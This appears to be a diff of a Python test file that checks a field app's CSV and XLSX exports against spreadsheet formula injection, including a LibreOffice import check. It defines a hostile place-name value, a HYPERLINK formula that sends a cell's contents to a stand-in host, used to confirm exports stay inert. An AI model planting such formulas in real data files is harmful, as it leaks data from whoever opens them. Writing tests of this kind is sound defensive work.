@@ -6,7 +6,10 @@ from __future__ import annotations
 import csv
 import io
 import re
+import shutil
+import subprocess
 import zipfile
+from dataclasses import replace
 from datetime import date, datetime, timedelta, timezone
 from xml.etree import ElementTree
 
@@ -14,7 +17,7 @@ import pytest
 
 from tests.documents_support import open_filled_vault, provider
 from fieldapp.documents.common import DocumentError
-from fieldapp.documents.exports import KINDS, export
+from fieldapp.documents.exports import KINDS, NEUTRALISER, export
 from fieldapp.domain.records import Referral
 from fieldapp.store.repositories import ListQuery
 
@@ -119,11 +122,80 @@ def test_every_kind_exports_in_both_formats(session, tmp_path):
             assert len(rows) == result.rows + 2 and result.rows > 0, (kind, fmt)
 
 
-def test_a_typed_formula_is_not_run_by_a_spreadsheet(session, tmp_path):
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"Beni")'
+
+
+def _every_cell_is_inert(rows) -> None:
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(TRIGGERS) and not cell.lstrip().startswith(TRIGGERS), cell
+
+
+@pytest.fixture
+def hostile_place(session):
+    """CD6109 (Beni) renamed to a formula, as an OCHA file or a headquarters bundle could."""
+    original = session.places.get("CD6109")
+    session.places.import_places([replace(original, name_en=HOSTILE, name_fr=HOSTILE)])
+    yield HOSTILE
+    session.places.import_places([original])
+
+
+def test_a_formula_in_a_place_name_or_a_typed_field_is_never_a_formula_in_a_csv(session, tmp_path, hostile_place):
+    for kind in KINDS:
+        target = tmp_path / f"{kind}.csv"
+        export(session, kind, target, "csv", "en+fr", hxl=True)
+        _every_cell_is_inert(read_csv(target))
+    referrals = read_csv(tmp_path / "referrals.csv")
+    column = referrals[1].index("#adm2+name")
+    beni = [row[column] for row in referrals[2:] if row[column].endswith(HOSTILE)]
+    assert beni and set(beni) == {NEUTRALISER + HOSTILE}  # the name itself, readable after one invisible mark
+    names = [row[1] for row in read_csv(tmp_path / "directory.csv")[2:]]
+    assert NEUTRALISER + '=HYPERLINK("http://x")' in names
+
+
+def test_a_phone_number_stays_readable_as_typed_with_no_apostrophe(session, tmp_path):
     target = tmp_path / "directory.csv"
     export(session, "directory", target, "csv", "en")
-    names = [row[1] for row in read_csv(target)[1:]]
-    assert "'=HYPERLINK(\"http://x\")" in names and "=HYPERLINK(\"http://x\")" not in names
+    rows = read_csv(target)
+    phones = [row[rows[0].index("Phones")] for row in rows[1:] if row[rows[0].index("Phones")]]
+    assert phones and not any("'" in phone for phone in phones)
+    assert all(phone.startswith(NEUTRALISER + "+243 ") for phone in phones)
+    # What a person sees (the word joiner has no width) and what a reader gets once it drops it.
+    assert phones[0].lstrip(NEUTRALISER).startswith("+243 ") and len(phones[0].strip(NEUTRALISER)) == len(phones[0]) - 1
+
+
+def test_an_xlsx_export_holds_no_formula(session, tmp_path, hostile_place):
+    target = tmp_path / "referrals.xlsx"
+    export(session, "referrals", target, "xlsx", "en")
+    with zipfile.ZipFile(target) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet and b"<f " not in sheet
+    assert any(HOSTILE in cell for row in read_xlsx(target) for cell in row)  # kept as text, as it is
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
+def test_libreoffice_reads_the_formula_and_the_phone_number_as_text(session, tmp_path, hostile_place):
+    target = tmp_path / "directory.csv"
+    export(session, "directory", target, "csv", "en")
+    places = tmp_path / "places.csv"
+    export(session, "places", places, "csv", "en")
+    for path in (target, places):
+        # Formulas evaluated, as LibreOffice's import dialog offers by default.
+        subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
+                        "--infilter=CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true",
+                        "--convert-to", "fods", "--outdir", str(tmp_path / "lo-out"), str(path)],
+                       check=True, capture_output=True, timeout=120)
+    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
+    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
+    cells = [cell for name in ("directory", "places")
+             for cell in ElementTree.parse(tmp_path / "lo-out" / f"{name}.fods").iter(f"{{{table}}}table-cell")]
+    assert not [cell for cell in cells if cell.get(f"{{{table}}}formula")]
+    texts = ["".join(cell.itertext()).strip() for cell in cells]
+    assert any(text == NEUTRALISER + "+243 990 000 001" for text in texts)
+    assert any(text == NEUTRALISER + HOSTILE for text in texts)
+    phone = next(c for c, t in zip(cells, texts) if t.endswith("+243 990 000 001"))
+    assert phone.get(f"{{{office}}}value-type") == "string"
 
 
 def test_export_is_audited(session, tmp_path):
